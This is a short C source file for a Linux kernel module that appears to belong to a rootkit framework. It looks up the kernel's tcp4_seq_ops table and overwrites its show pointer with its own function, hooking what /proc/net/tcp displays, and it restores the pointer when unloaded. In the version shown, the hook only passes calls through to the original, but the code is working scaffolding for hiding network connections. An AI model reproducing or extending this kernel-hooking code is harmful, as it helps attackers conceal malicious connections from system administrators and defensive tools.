// SPDX-License-Identifier: GPL-2.0-only
/* Shows /proc/net/tcp by a function of its own, whose address it puts into the kernel's table. */
#include <linux/seq_file.h>

#include "rk.h"
#include "rk_text.h"

static struct seq_operations *table;
static int (*original)(struct seq_file *seq, void *v);

static int show(struct seq_file *seq, void *v)
{
	return original(seq, v);
}

static int on(void)
{
	int (*mine)(struct seq_file *seq, void *v) = show;

	table = (void *)rk_lookup("tcp4_seq_ops");
	if (!table)
		return -ENOENT;
	original = table->show;
	return rk_write_text(&table->show, &mine, sizeof(mine));
}

static void off(void)
{
	rk_write_text(&table->show, &original, sizeof(original));
	synchronize_rcu();
}

RK_MODULE(seq_ops, on, off);
